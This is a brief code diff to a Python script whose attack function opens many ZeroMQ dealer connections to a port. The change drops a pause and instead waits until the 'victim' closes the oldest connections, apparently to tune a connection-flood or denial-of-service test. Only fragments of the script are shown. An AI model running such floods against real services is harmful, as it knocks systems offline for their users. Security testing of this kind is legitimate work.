@@ -7,7 +7,7 @@ from __future__ import annotations
 
 import socket
 import sys
-import time
+from contextlib import suppress
 
 import zmq
 
@@ -31,8 +31,10 @@ def attack(kind: str, port: int, keys: tuple[bytes, bytes, bytes], frame: bytes)
             many.append(one)
             if len(many) % 200 == 0:
                 print("opened", len(many), flush=True)
-                time.sleep(1.0)
                 many = many[-100:]
+                with suppress(ConnectionError):
+                    while many[0].recv(4096):  # until the victim has shut out the first of them
+                        pass
     one = dealer(context, port, *keys)
     while True:
         try:
